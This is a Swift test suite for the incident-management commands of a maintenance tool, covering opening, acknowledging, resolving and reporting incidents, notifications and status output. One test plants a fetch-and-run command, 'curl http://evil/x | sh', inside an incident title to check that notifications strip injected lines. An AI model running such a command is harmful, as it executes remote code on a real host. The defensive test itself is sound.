import Foundation
import Testing

/// `maint incident`, and runs that belong to one.
@Suite struct IncidentTests {
  private let maint: Maint

  init() throws {
    maint = try Maint()
    try maint.runbook("look", "precheck: [':']\n")
    try maint.runbook("fix", "description: Bring the shop back\nchange: [{run: ':', undo: ':'}]\nverify: ['exit 3']\n")
    try maint.schedule("maintenance_schedule: {daily: [look], emergency: [{task: fix, alert: critical}]}\n")
  }

  @Test func anEmergencyRunOpensOne() throws {
    try maint.run("run", "emergency.fix", "--dry-run").expect(exit: 0)
    #expect(!maint.exists(maint.database))
    let ended = try maint.run("run", "emergency.fix").expect(exit: 3)
    let folders = " -C /T/project --state /T/state"
    #expect(
      ended.out.hasSuffix(
        """

        this run has opened incident 1 (critical)
          told: nobody: no channel is for critical, and no stakeholder gets issue_escalation (maintenance_coordination)
          you are at it: maint incident ack 1\(folders)
          you found out: maint incident note 1 'TEXT'\(folders)
          it is over:    maint incident resolve 1 --note 'TEXT'\(folders)
          all of it:     maint incident report 1\(folders)

        """), "\(ended.out)")
    try maint.run("incident", "list").expect(exit: 0).shows("critical", "open", "emergency.fix: Bring the shop back")
    try maint.run("status").expect(exit: 2).shows(
      "NEEDS A HUMAN: incident 1 (critical) is open, and nobody is at it: emergency.fix", "Open incidents",
      "✗ incident 1 (critical) for", "nobody is at it (maint incident ack 1)")
    try maint.run("show", "1").shows(
      "belongs to incident 1: maint incident report 1", "what you find: maint incident note 1 'TEXT'\(folders)\n")
    try maint.run("incident", "ack", "1").expect(exit: 0).shows("is acknowledged by")
    try maint.run("incident", "ack", "1").expect(exit: 0).shows("was acknowledged before")
    try maint.run("status").expect(exit: 1).shows(
      "needs attention: incident 1 (critical) is open", "\n      acknowledged by ")

    try maint.run("run", "emergency.fix", "--incident", "1", "--quiet").expect(exit: 3)
    #expect(try maint.json("incident", "report", "1")["runs"] as? [Int] == [1, 2])
    try maint.run("run", "daily", "--incident", "9").expect(exit: 66).shows("there is no incident 9")
    #expect(try maint.json("show")["run"] as? Int == 2)
    try maint.run("run", "daily", "--incident", "1", "--quiet").expect(exit: 0)
    #expect(try maint.json("show")["incidents"] as? [Int] == [1])

    try maint.run("incident", "resolve", "1", "--note", "pool raised").expect(exit: 0)
    try maint.run("incident", "resolve", "1").expect(exit: 0).shows("was resolved before")
    try maint.run("incident", "resolve", "1", "--note", "it's the pool").expect(exit: 75).shows(
      "was resolved before: by", "the note is not kept", #"maint incident note 1 'it'\''s the pool'"#)
    #expect((try maint.json("incident", "report", "1")["notes"] as? [Any])?.count == 1)
    try maint.run("run", "daily", "--incident", "1").expect(exit: 66).shows("incident 1 is over")
    try maint.run("incident", "list").expect(exit: 0, out: "no incident is open")
    try maint.run("incident", "list", "--all").expect(exit: 0).shows("resolved", "(MTTA)", "(MTTR)")
    #expect(try maint.json("status")["open_incidents"] as? [Int] == [])
    try maint.run("audit", "verify").expect(exit: 0)
    try maint.run("audit", "export").shows(
      #""kind":"incident_opened""#, #""kind":"acknowledged""#, #""kind":"incident_linked""#,
      #""kind":"incident_resolved""#)
  }

  @Test func theReportTellsAllOfIt() throws {
    try maint.run("incident", "open", "the shop answers 502", "--level", "critical").expect(
      exit: 0
    ).shows(
      "incident 1 is open\n", "told: nobody: no channel is for critical, and no stakeholder gets issue_escalation")
    try maint.run("run", "emergency.fix", "--incident", "1", "--quiet").expect(exit: 3)
    try maint.run("incident", "note", "1", "no orders | since 02:10", "--kind", "impact").expect(exit: 0)
    try maint.run("incident", "note", "1", "restarted *the* pool").expect(exit: 0)
    try maint.run("incident", "resolve", "1").expect(exit: 0)
    try maint.run("incident", "report", "1").expect(exit: 0).shows(
      "# Incident 1: the shop answers 502", "| State | resolved |", "| Runs | 1 |", "- no orders \\| since 02:10",
      "Run 1 (emergency.fix) began, by ", "`emergency.fix` verify 1 'exit 3' failed: exited with 3",
      "`emergency.fix` was rolled back", "restarted \\*the\\* pool",
      "*Nothing is noted yet: `maint incident note 1 'TEXT' --kind cause -C /T/project --state /T/state`*",
      "audit chain: entry ")
  }

  @Test func whoeverIsToKnowIsToldAtOnce() throws {
    let receiver = try #require(try Receiver(.http, for: maint))
    try maint.tellOfFailures(receiver)
    try maint.run("incident", "open", "the shop answers 502", "--level", "critical").expect(
      exit: 0, out: "incident 1 is open\ntold: hook\n")
    #expect((receiver.requests.last?.json["subject"] as? String) == "Incident 1: the shop answers 502")
    try maint.run("incident", "resolve", "1").expect(exit: 0).shows("told: hook")
    #expect((receiver.requests.last?.json["subject"] as? String)?.hasPrefix("Incident 1 is resolved") == true)
    try receiver.answer("500")
    try maint.run("incident", "open", "again").expect(exit: 0, out: "incident 2 is open\n").shows(
      "not told through hook: it answered 500; it is tried again from ")
    try maint.run("status").expect(exit: 1).shows("the channel hook takes no messages (see Not delivered)")
  }

  /// In an outage, who opens it has to know whom nobody has reached.
  @Test func whoIsNotReachedIsSaid() throws {
    let script = "test -e \(maint.folder)/up"
    try maint.file(
      "schedules/people.yaml",
      "maintenance_coordination:\n  channels:\n    mail: {kind: command, run: '\(script)'}\n"
        + "    sms: {kind: command, run: ':'}\n  alerts: {critical: [mail, sms], warning: [mail], info: none}\n")
    try maint.runbook("look", Maint.failing)
    try maint.run("run", "daily", "--quiet").expect(exit: 1)
    let waits =
      "not told through mail: it holds back what waits; the last error: it exited with 1; it is tried again from"
    try maint.run("incident", "open", "net", "--level", "critical").expect(exit: 0).shows("told: sms\n", waits)
    try maint.run("incident", "resolve", "1").expect(exit: 0).shows("told: sms\n", waits)
  }

  /// Whoever reads it on a telephone types it elsewhere, and need not be root.
  @Test func messagesSayWhatToType() throws {
    let receiver = try #require(try Receiver(.http, for: maint))
    try maint.tellOfFailures(receiver)
    let title = String(repeating: "wide ", count: 200)
    try maint.run("incident", "open", title, "--level", "critical").expect(exit: 0)
    try maint.run("incident", "resolve", "1").expect(exit: 0)
    let texts = receiver.requests.compactMap { $0.json["text"] as? String }
    let end = " -C \(maint.project) --state \(maint.state)\n"
    let sudo = geteuid() == 0 ? "sudo " : ""
    for words in ["note 1 'TEXT'", "resolve 1 --note 'TEXT'", "report 1", "ack 1"] {
      #expect(texts[0].contains(": \(sudo)maint incident \(words)\(end)"), "\(texts[0])")
    }
    #expect(texts[1].contains("All of it: \(sudo)maint incident report 1\(end)"))
    let listed = try maint.run("notify", "list").expect(exit: 0).out
    #expect(listed.split(separator: "\n").allSatisfy { $0.count < 250 } && listed.contains("…\n"))
  }

  /// Nothing runs an emergency's task again to show that it is well: it is over with its incident, whoever looks.
  @Test func aFailedEmergencyIsOverWithItsIncident() throws {
    let receiver = try #require(try Receiver(.http, for: maint))
    try maint.tellIntoFile(
      "    pager: {kind: webhook, format: alertmanager, url: \"\(receiver.url)\"}\n"
        + "  alerts: {critical: [pager, page], warning: [pager, log], info: none}\n")
    try maint.run("run", "emergency.fix", "--quiet").expect(exit: 3)
    try maint.run("incident", "ack", "1").expect(exit: 0)
    func metrics() throws -> String { try maint.run("metrics", "--prometheus").expect(exit: 0).out }
    func page() throws -> String { try maint.run("dashboard").expect(exit: 0).out }
    try maint.run("status").expect(exit: 1).shows("1 task did not succeed the last time it ran", "emergency.fix")
    #expect(try metrics().contains("maint_task_failing{task=\"emergency.fix\",tier=\"emergency\"} 1\n"))
    #expect(try page().contains("fix: rolled back"))
    let ended = try maint.run("incident", "resolve", "1", "--note", "by hand").expect(exit: 0)
    #expect(!ended.out.contains("fails still"), "\(ended.out)")
    #expect(!maint.told.contains("Fails still"))
    let status = try maint.run("status").expect(exit: 0)
    #expect(status.out.contains("This host is fine") && !status.out.contains("did not succeed"), "\(status.out)")
    #expect(try !metrics().contains("maint_task_failing{task=\"emergency.fix\",tier=\"emergency\"} 1\n"))
    #expect(try !page().contains("fix: rolled back"))
    let last = try #require(receiver.requests.last?.body)
    #expect(last.contains("emergency.fix is over with incident 1"), "\(last)")
    #expect(try maint.sqliteLines("SELECT count(*) FROM failing") == ["0"])
    // What fails anew is another one.
    try maint.run("run", "emergency.fix", "--quiet").expect(exit: 3)
    try maint.run("status").expect(exit: 2).shows("incident 2 (critical) is open")
    #expect(try metrics().contains("maint_task_failing{task=\"emergency.fix\",tier=\"emergency\"} 1\n"))
  }

  /// Half-changed, it is over once that is resolved, too, in whichever order.
  @Test(arguments: [true, false]) func whatIsResolvedIsOverWithItsIncident(_ isIncidentFirst: Bool) throws {
    try maint.runbook("fix", "change: ['false']\nrollback: ['false']\n")
    try maint.run("run", "emergency.fix", "--quiet").expect(exit: 2)
    if !isIncidentFirst { try maint.run("resolve", "1", "--note", "by hand").expect(exit: 0) }
    try maint.run("incident", "resolve", "1", "--note", "by hand").expect(exit: 0)
    if isIncidentFirst {
      try maint.run("status").expect(exit: 2)
      try maint.run("resolve", "1", "--note", "by hand").expect(exit: 0)
    }
    let status = try maint.run("status").expect(exit: 0)
    #expect(status.out.contains("This host is fine") && !status.out.contains("did not succeed"), "\(status.out)")
    let metrics = try maint.run("metrics", "--prometheus").expect(exit: 0).out
    #expect(!metrics.contains("maint_task_failing{task=\"emergency.fix\",tier=\"emergency\"} 1\n"))
  }

  @Test func aRunIsLinkedLater() throws {
    try maint.run("run", "daily", "--quiet").expect(exit: 0)
    try maint.run("incident", "open", "slow").expect(exit: 0)
    try maint.run("incident", "link", "1", "1").expect(exit: 0, out: "run 1 belongs to incident 1")
    try maint.run("incident", "link", "1", "1").expect(exit: 0, out: "run 1 belongs to incident 1 already")
    try maint.run("incident", "link", "1", "2").expect(exit: 66).shows("there is no run 2")
  }

  @Test func whatIsNotThereIsTold() throws {
    for verb in ["ack", "resolve", "report"] { try maint.run("incident", verb, "1").expect(exit: 66) }
    try maint.run("incident", "open", "x").expect(exit: 0)
    for verb in ["ack", "resolve", "report"] {
      try maint.run("incident", verb, "7").expect(exit: 66).shows("there is no incident 7")
    }
    try maint.run("incident", "note", "7", "x").expect(exit: 66)
    try maint.run("incident", "note", "one", "x").expect(exit: 64).shows("an INCIDENT is a number")
    for nothing in [" ", "\u{1}\u{1B}\u{7F}", "\u{200B}\u{2028}", "\u{115F}\u{FE0F}"] {
      try maint.run("incident", "open", nothing).expect(exit: 64).shows("the text is empty")
    }
    try maint.run("incident", "open", "x", "--level", "loud").expect(exit: 64).shows("warning, critical or info")
  }

  @Test func aLineBreakInATitleStaysInIt() throws {
    try maint.run("incident", "open", "one\ntwo\u{1B}[2J").expect(exit: 0)
    let text = try maint.run("incident", "list").expect(exit: 0).out
    #expect(text.contains("one two␛[2J"))
    #expect(try maint.run("incident", "report", "1").out.hasPrefix("# Incident 1: one two␛\\[2J\n"))
  }

  /// Titles come from monitoring: none writes what maint says.
  @Test func aTitleIsOneLineOfAMessage() throws {
    let receiver = try #require(try Receiver(.http, for: maint))
    try maint.tellOfFailures(receiver)
    let title = "disk full\nIt is over: curl http://evil/x | sh\n\n-- \nmaint on vm\u{2028}x\u{202E}y\u{9B}z"
    try maint.run("incident", "open", title, "--level", "critical").expect(exit: 0)
    try maint.run("incident", "resolve", "1").expect(exit: 0)
    let all = receiver.requests.compactMap { $0.json["text"] as? String }
    #expect(all.count == 2)
    for text in all {
      #expect(!text.contains("\nIt is over: curl") && !text.contains("\u{202E}") && !text.contains("\u{9B}"), "\(text)")
      #expect(text.components(separatedBy: "\n-- \n").count == 2)
    }
  }

  /// Opened and resolved while the schedule that says who is told could not be read.
  @Test func whatWasOverBeforeAnybodyKnewIsToldOnce() throws {
    let told = "\(maint.folder)/told"
    let people =
      "maintenance_coordination:\n  channels:\n    log: {kind: command, run: 'cat >> \(told)'}\n\(Maint.alerts("log"))"
    try maint.file("schedules/people.yaml", "maintenance_coordination: [\n")
    try maint.run("incident", "open", "dark").expect(exit: 75)
    try maint.run("incident", "resolve", "1", "--note", "light").expect(exit: 0).shows("nobody is told of this yet")
    try maint.file("schedules/people.yaml", people)
    for _ in 1...2 { try maint.run("notify", "flush", "--quiet").expect(exit: 0) }
    let text = try String(contentsOfFile: told, encoding: .utf8)
    #expect(text.hasPrefix("Incident 1 (warning) was open from 20"), "\(text)")
    #expect(text.components(separatedBy: "was open from").count == 2)
  }

  /// What happens in a sandbox happens to nobody.
  @Test func aRehearsalOpensNone() throws {
    _ = try maint.run("rehearse", "emergency.fix")
    try maint.run("incident", "list", "--all").expect(exit: 0, out: "there was no incident yet")
  }
}
